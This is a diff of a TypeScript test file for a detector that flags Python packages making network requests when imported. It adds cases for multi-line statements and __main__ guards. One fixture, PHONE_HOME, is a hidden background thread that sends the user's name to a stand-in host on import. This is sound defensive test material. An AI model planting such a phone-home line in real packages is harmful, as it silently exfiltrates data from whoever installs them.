@@ -94,15 +94,27 @@ describe('ordinary code is not flagged', () => {
 describe('a request made when a package is imported (round 13)', () => {
   const PHONE_HOME =
     '_t.Thread(target=lambda: _u.urlopen("https://stats.example/i?u=" + _os.getenv("USER", "")), daemon=True).start()';
+  const at = (name: string, lines: string[]) => importTimeRequest(name, lines.join('\n'), lines);
   it('top-level code of __init__.py, conftest.py or setup.py calling a URL', () => {
-    expect(importTimeRequest('__init__.py', ['import os', PHONE_HOME])).toBe(true);
-    expect(importTimeRequest('conftest.py', ['requests.get("https://x.example/ping")'])).toBe(true);
-  });
-  it('a request inside a function, in another module, or with no literal URL is ordinary code', () => {
+    expect(at('__init__.py', ['import os', PHONE_HOME])).toBe(true);
+    expect(at('conftest.py', ['requests.get("https://x.example/ping")'])).toBe(true);
+    // A statement over several lines: its continuation runs on import too.
     expect(
-      importTimeRequest('__init__.py', ['def ping():', '    requests.get("https://x.example/ping")']),
+      at('__init__.py', ['_t.Thread(', '    target=lambda: urlopen("https://x.example/i"),', ').start()']),
+    ).toBe(true);
+  });
+  it('a request inside a function or a __main__ guard, in another module, or with no literal URL is ordinary code', () => {
+    expect(at('__init__.py', ['def ping():', '    requests.get("https://x.example/ping")'])).toBe(false);
+    expect(at('setup.py', ['if __name__ == "__main__":', '    requests.get("https://x.example/ping")'])).toBe(
+      false,
+    );
+    expect(at('client.py', [PHONE_HOME])).toBe(false);
+    expect(at('__init__.py', ['from .client import fetch_all'])).toBe(false);
+    // An added line inside a function the change did not add is still inside it.
+    expect(
+      importTimeRequest('__init__.py', 'def ping():\n    x = 1\n    requests.get("https://x.example/p")\n', [
+        '    requests.get("https://x.example/p")',
+      ]),
     ).toBe(false);
-    expect(importTimeRequest('client.py', [PHONE_HOME])).toBe(false);
-    expect(importTimeRequest('__init__.py', ['from .client import fetch_all'])).toBe(false);
   });
 });
